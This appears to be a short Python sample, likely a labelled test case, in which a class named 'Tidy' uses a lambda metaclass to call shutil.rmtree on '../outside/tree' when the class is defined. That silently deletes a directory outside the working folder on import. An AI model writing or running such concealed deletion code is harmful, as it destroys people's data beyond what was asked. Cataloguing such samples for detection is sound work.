# A class statement whose metaclass does the work.
# damage: deleted
import shutil


class Tidy(metaclass=lambda name, bases, body: shutil.rmtree(body["where"])):
    where = "../outside/tree"
